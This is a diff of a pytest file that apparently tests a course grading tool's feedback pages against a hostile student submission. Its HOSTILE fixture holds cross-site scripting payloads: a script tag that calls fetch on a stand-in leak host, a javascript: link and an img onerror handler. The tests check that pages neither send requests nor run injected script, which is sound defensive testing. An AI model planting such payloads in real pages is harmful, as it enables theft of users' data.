@@ -32,11 +32,13 @@ HOSTILE = """<script>fetch('https://leak.example/1'); document.title = 'taken'</
 $\\href{javascript:document.title='taken'}{x}$ $\\text{<img src=x onerror=document.title='taken'>}$
 """
 WIDTHS = {375: 812, 1280: 900}
+SHOWN = ["ps1_general_attention", SHORT, "ps5_sentence", "ps8_first_gradient"]
+"""They show all that a page can have: a picture, written answers, gradients, a check that is partly right."""
 
 
 @pytest.fixture(scope="module")
 def course(released, tmp_path_factory) -> Path:
-    """Some demo students in all assignments and a hostile one, with feedback."""
+    """Some demo students in some assignments and a hostile one, with feedback."""
     root = tmp_path_factory.mktemp("pages") / "course"
     shutil.copytree(released, root)
     path = hand_in(root, "mallory", answer="wrong/no_scaling", why_equivariant_answer=HOSTILE)
@@ -48,7 +50,7 @@ def course(released, tmp_path_factory) -> Path:
     show += f"print({HOSTILE!r}); print('x' * 3000)\nraise ValueError({HOSTILE!r})"
     notebook.cells.append(new_code_cell(show))
     nbformat.write(notebook, path)
-    for step in (["demo", "--students=3"], ["grade"], ["feedback"]):
+    for step in (["demo", *SHOWN, "--students=3"], ["grade"], ["feedback"]):
         subprocess.run([BIN / "viva", *step], cwd=root, check=True, stdout=subprocess.DEVNULL)
     # As if it had come into autograded/ without being cleaned.
     path = root / "autograded" / "mallory" / SHORT / path.name
@@ -85,6 +87,7 @@ def look(browser, path: Path, width: int, scheme: str = "light"):
     return page, [url for url in sent if not url.startswith("data:") and url != path.as_uri()]
 
 
+@pytest.mark.thorough
 @pytest.mark.parametrize("width", WIDTHS)
 def test_no_page_sends_a_request_or_runs_over_its_edge_and_headings_are_in_order(course, browser, width):
     for path in pages(course) if width == min(WIDTHS) else some_pages(course):
@@ -97,6 +100,7 @@ def test_no_page_sends_a_request_or_runs_over_its_edge_and_headings_are_in_order
         page.context.close()
 
 
+@pytest.mark.thorough
 @pytest.mark.parametrize("scheme", thinned(["dark", "light"], 2))
 def test_every_text_has_contrast_enough_and_axe_finds_no_barrier(course, browser, scheme):
     for path in some_pages(course):
@@ -107,6 +111,7 @@ def test_every_text_has_contrast_enough_and_axe_finds_no_barrier(course, browser
         page.context.close()
 
 
+@pytest.mark.thorough
 def test_on_paper_every_page_is_light_unfolded_and_not_cut_off(course, browser):
     for path in some_pages(course):
         page, _ = look(browser, path, 1280, "dark")
@@ -164,7 +169,7 @@ def test_nothing_hidden_is_on_any_page(course):
         handed_in = course / "submitted" / path.relative_to(course / "feedback").with_suffix(".ipynb")
         assert known.found(path.read_text(encoding="utf-8"), sources(handed_in)) == [], path
         seen += 1
-    assert seen >= 15
+    assert seen >= 10
 
 
 @pytest.mark.thorough  # of a part of the class, with a hostile student, it is proven above
